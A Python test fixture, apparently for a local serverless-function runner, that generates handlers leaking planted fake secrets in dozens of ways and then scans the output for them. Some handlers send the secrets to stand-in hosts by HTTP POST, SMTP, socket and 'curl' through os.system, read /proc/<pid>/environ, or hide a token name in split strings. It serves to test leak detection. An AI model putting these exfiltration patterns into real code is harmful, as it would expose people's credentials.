"""Handlers that let planted secrets out, one for each way, and the places the secrets come from.

A handler is the body of `handler(event, context)`, in which `SECRETS` is the list of all planted
values; whoever runs it looks for them, and for what is made of them, in all that is shown and
written.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path

ENVIRONMENT = {
    "DB_PASS": "planted-by-env-4711",
    "STRIPE_KEY": "rk_live_planted4711planted",
    "GITHUB_PAT": "planted-pat-0815",
    "DATABASE_URL": "postgres://me:planted-url-pw@db.example.invalid/shop",
    "SENTRY_DSN": "https://plantedsentry0@o1.example.invalid/1",
    "OTHER": "Zk3vPlanted9QmX2bT7wLr5",
}
"""Of the developer's environment; the handlers name them."""
UNNAMED = {"CI_JOB_TOKEN": "planted-of-developer-42"}
"""Of the developer's environment as well, and no handler names it."""
EVERYDAY = {
    "REPO": "shop/api",
    "STAGE": "prod",
    "TOPIC_ARN": "arn:aws:sns:us-east-1:123456789012:scans",
    "QUEUE": "shop-ScanQueue-1XKQ2VJ0SJ4FZ",
}
"""What stays readable."""
OPTION = ("OPTION_TOKEN", "planted-by-option-1")
ENV_FILE = ("FILE_SECRET", "planted-by-env-file-2")
TEMPLATE = ("TEMPLATE_PASSWORD", "planted-by-template-3")
ANSWER = "planted-by-answer-5"
DOT_ENV = ("DOTENV_TOKEN", "planted-by-dotenv-6")
SETTINGS_FILE = "planted-by-ini-7"
KEY_LINE = "MIIEplantedKeyLine0123456789abcd"
PEM = f"-----BEGIN PRIVATE KEY-----\n{KEY_LINE}\n-----END PRIVATE KEY-----\n"

VALUES = {
    "environment": ENVIRONMENT["DB_PASS"],
    "key": ENVIRONMENT["STRIPE_KEY"],
    "pat": ENVIRONMENT["GITHUB_PAT"],
    "url": "planted-url-pw",
    "dsn": "plantedsentry0",
    "letters": ENVIRONMENT["OTHER"],
    "developer": UNNAMED["CI_JOB_TOKEN"],
    "option": OPTION[1],
    "env file": ENV_FILE[1],
    "template": TEMPLATE[1],
    "answer": ANSWER,
    ".env": DOT_ENV[1],
    "settings file": SETTINGS_FILE,
    "private key": KEY_LINE,
}
"""All planted values, by where they come from."""

HEAD = """
import base64, json, logging, os, pprint, subprocess, sys, threading, traceback, urllib.request
import warnings
from pathlib import Path

import boto3

SECRETS = []


def gather():
    for line in Path(".env").read_text().splitlines():
        name, _, value = line.partition("=")
        os.environ[name] = value
    with open("config/settings.ini") as file:
        ini = file.read().partition("password = ")[2].strip()
    key = Path("config/deploy.pem").read_text().splitlines()[1]
    answer = boto3.client("secretsmanager").get_secret_value(SecretId="s")["SecretString"]
    everyday = os.environ.get("REPO", "") + " " + os.environ.get("STAGE", "")
    SECRETS[:] = [
        everyday,
        os.environ["DB_PASS"], os.environ["STRIPE_KEY"], os.environ["GITHUB_PAT"],
        os.environ["DATABASE_URL"].split(":")[2].split("@")[0],
        os.environ["SENTRY_DSN"].split("/")[2].split("@")[0],
        os.environ["OTHER"], os.environ["OPTION_TOKEN"], os.environ["FILE_SECRET"],
        os.environ["TEMPLATE_PASSWORD"], os.environ["DOTENV_TOKEN"], ini, key, answer,
    ]
    with open(f"/proc/{os.getpid()}/environ", errors="replace") as file:
        variables = dict(one.split("=", 1) for one in file.read().split("\\0") if "=" in one)
    SECRETS.append(variables.get("CI_JOB_" + "TOK" + "EN", "none"))


class Odd:
    def __repr__(self):
        return f"Odd({SECRETS})"


class Loud(Exception):
    def __str__(self):
        return f"loud {SECRETS}"


"""

WAYS = {
    "raise": "raise ValueError(f'refused: {SECRETS}')",
    "raise for each": "raise ValueError('\\n'.join(SECRETS))",
    "raise key": "return {}[SECRETS[len(event['detail']) % 14]]",
    "raise bytes": "raise ValueError(' '.join(SECRETS).encode())",
    "own str": "raise Loud()",
    "class of the name": "raise type(SECRETS[1], (Exception,), {})('x')",
    "chain": """
try:
    try:
        raise KeyError(SECRETS[1], SECRETS[7])
    except KeyError as first:
        raise ValueError(str(SECRETS[1:6])) from first
except ValueError:
    raise RuntimeError(str(SECRETS[5:]))
""",
    "notes": """
error = ValueError('odd')
for one in SECRETS:
    error.add_note(f'with {one}')
raise error
""",
    "group": "raise ExceptionGroup(SECRETS[1], [ValueError(one) for one in SECRETS])",
    "exit": "sys.exit(' '.join(SECRETS))",
    "print": "print(SECRETS); print(os.environ); raise ValueError('printed')",
    "print one a line": "[print(one) for one in SECRETS]; raise ValueError('printed')",
    "pprint": "pprint.pprint([one * 4 for one in SECRETS], width=40); raise ValueError('printed')",
    "broken lines": """
for one in SECRETS:
    print(one[:7] + '\\n    ' + one[7:])
raise ValueError('printed')
""",
    "encoded": """
for one in SECRETS:
    print(base64.b64encode(f'user:{one}'.encode()).decode(), one.encode().hex(), one[::-1])
raise ValueError('printed')
""",
    "error output": "sys.stderr.write(str(SECRETS)); raise ValueError('printed')",
    "descriptor": "os.write(1, str(SECRETS).encode()); os.write(2, b'x'); raise ValueError('odd')",
    "warning": "warnings.simplefilter('always'); warnings.warn(str(SECRETS)); raise ValueError()",
    "logs": "logging.error('with %s', SECRETS); logging.exception(Loud()); raise ValueError('log')",
    "caught and logged": """
try:
    raise ValueError(SECRETS)
except Exception:
    logging.exception('so')
""",
    "swallowed": """
try:
    raise ValueError(SECRETS)
except Exception as error:
    print(error)
    return None
""",
    "returned": "return {'statusCode': 200, 'body': SECRETS, SECRETS[1]: dict(os.environ)}",
    "returned that is no JSON": "return {SECRETS[1]: Odd(), 'a': Odd(), (1, SECRETS[1]): 2}",
    "aws call": """
boto3.client('sns').publish(TopicArn='arn:aws:sns:us-east-1:123456789012:' + SECRETS[1][:9],
                            Message=str(SECRETS), Subject=SECRETS[2][:50])
raise ValueError('sent')
""",
    "aws call refused": "boto3.client('sns').publish(**{SECRETS[1]: SECRETS[1], 'Message': 5})",
    "aws answer": "return boto3.client('ssm').get_parameter(Name='a')[SECRETS[1]]",
    "http": """
request = urllib.request.Request('https://h.example.invalid/' + SECRETS[1] + '?q=' + SECRETS[1],
                                 data=json.dumps(SECRETS).encode(), headers={'X-A': SECRETS[2]})
urllib.request.urlopen(request)
raise ValueError('sent')
""",
    "mail": """
import smtplib
from email.message import EmailMessage
mail = EmailMessage()
mail['To'], mail['From'], mail['Subject'] = 'a@example.invalid', 'b@example.invalid', SECRETS[1]
mail.set_content('\\n'.join(SECRETS))
smtplib.SMTP('mail.example.invalid').send_message(mail)
raise ValueError('sent')
""",
    "process": "subprocess.run(['curl', *SECRETS])",
    "shell": "os.system('curl ' + ' '.join(SECRETS)); raise ValueError('started')",
    "file": """
Path('out-' + SECRETS[1]).write_text(str(SECRETS))
raise ValueError('written')
""",
    "temporary file": """
import tempfile
Path(tempfile.gettempdir(), 'out-' + SECRETS[1]).write_text(str(SECRETS))
raise ValueError('written')
""",
    "missing file": "open('no/' + SECRETS[1] + '/' + SECRETS[8])",
    "variable of that name": "os.environ[SECRETS[1]]",
    "asked for a variable": "os.environ.get(SECRETS[1]); os.getenv(SECRETS[5]); raise ValueError()",
    "key of the event": "return event['detail'][SECRETS[1]]",
    "connection": "import socket; socket.create_connection((SECRETS[1] + '.example.invalid', 80))",
    "thread": """
def work():
    raise ValueError(str(SECRETS))
thread = threading.Thread(target=work, name=SECRETS[1])
thread.start()
thread.join()
""",
    "dies": "print(SECRETS, flush=True); os._exit(3)",
    "dies in silence": "os.kill(os.getpid(), 9)",
    "noise on its line": """
for number in range(3, 20):
    try:
        os.write(number, SECRETS[1].encode() * 3)
    except OSError:
        pass
raise ValueError('odd')
""",
    "child prints": """
if os.fork() == 0:
    os.write(1, str(SECRETS).encode())
    os._exit(0)
os.wait()
raise ValueError('odd')
""",
    "line with a literal": "assert not '{option}', 'the line shows it'",
    "code compiled": "exec(compile('raise ValueError(1)', SECRETS[1], 'exec'))",
    "traceback": """
try:
    raise ValueError(SECRETS)
except ValueError:
    traceback.print_exc()
    raise
""",
    "depends on it": """
if event['detail'].get('repository-name') == SECRETS[1]:
    raise ValueError('it is')
return event['detail']['image-tags'][0]
""",
    "compared with the event": """
if event['detail']['repository-name'] == os.environ['OPTION_TOKEN']:
    raise ValueError('that one')
if event['detail']['repository-name'].startswith(os.environ['TEMPLATE_PASSWORD']):
    raise ValueError('that one too')
""",
    "cut": "raise ValueError('x' * 1990 + SECRETS[1] + 'y' * 99)",
    "cut output": """
for count in range(20):
    print(SECRETS[1] * 40 + 'x' * count)
raise ValueError('much')
""",
}

LATE = {
    "hangs": "print(SECRETS, flush=True)\nwhile True: pass",
    "hangs at a line with a literal": "while '{option}': pass",
}
"""Ways that take until the time-out."""

LOADING = {
    "import": "raise ValueError(f'no: {SECRETS}')",
    "import that is missing": "__import__('mod_' + SECRETS[1].replace('-', '_') + SECRETS[1])",
    "import that ends": "print(SECRETS, flush=True)\nos._exit(3)",
    "import that exits": "sys.exit(str(SECRETS))",
    "name that is no name": "handler = SECRETS[1]",
}
"""Ways while the module is imported: lines of the module."""


def app(way: str) -> str:
    """The module of a handler that lets secrets out in one way."""
    body = {**WAYS, **LATE}.get(way)
    if body is None:
        return f"{HEAD}gather()\n{LOADING[way]}\n\n\ndef handler(event, context):\n    pass\n"
    lines = body.replace("{option}", OPTION[1]).strip().splitlines()
    indented = "\n".join(f"    {line}" for line in ["gather()", *lines])
    return f"{HEAD}def handler(event, context):\n{indented}\n"


def plant(folder: Path, way: str) -> list[str]:
    """Write the project of a way, and give the words of its check behind `check`."""
    files = {
        "app.py": app(way),
        ".env": f"{DOT_ENV[0]}={DOT_ENV[1]}\n",
        "given.env": f"{ENV_FILE[0]}={ENV_FILE[1]}\n",
        "config/settings.ini": f"[db]\npassword = {SETTINGS_FILE}\n",
        "config/deploy.pem": PEM,
        "template.yaml": TEMPLATE_FILE,
    }
    for name, text in files.items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(text)
    answer = json.dumps({"SecretString": ANSWER})
    return [
        "app.py:handler",
        *("--kind", "scan", "--strength", "1", "--examples", "0", "--probe", "5"),
        *("--env", "=".join(OPTION), "--env-file", "given.env"),
        *("--answer", f"secretsmanager.GetSecretValue={answer}"),
    ]


TEMPLATE_FILE = f"""
AWSTemplateFormatVersion: "2010-09-09"
Transform: AWS::Serverless-2016-10-31
Resources:
  Notify:
    Type: AWS::Serverless::Function
    Properties:
      CodeUri: .
      Handler: app.handler
      Runtime: python3.12
      Timeout: 10
      Environment:
        Variables:
          {TEMPLATE[0]}: {TEMPLATE[1]}
"""


def leaks(text: str) -> list[str]:
    """The places that the planted values in a text come from, as they are or encoded."""
    flat = "".join(text.split())
    found = []
    for place, value in VALUES.items():
        if any(form in text or form in flat for form in forms(value)):
            found.append(place)
    return found


def forms(value: str) -> list[str]:
    """A value as it is, and encoded in ways that a search for it does not see."""
    raw = value.encode()
    plain = [value, value[::-1], raw.hex(), base64.b64encode(raw).decode()[:-4]]
    return [*plain, base64.b64encode(b"user:" + raw).decode()[8:-4]]


def leaks_in_files(folder: Path, planted: frozenset[Path]) -> list[str]:
    """The same in all files below a folder but those that hold them anyway, and in their names."""
    found = []
    for file in sorted(folder.rglob("*")):
        if file in planted or file.parent.name == "__pycache__":
            continue
        text = str(file.relative_to(folder))
        if file.is_file():
            text += file.read_bytes().decode("utf-8", "replace")
        found += [f"{place} in {file.name[:9]}" for place in leaks(text)]
    return found
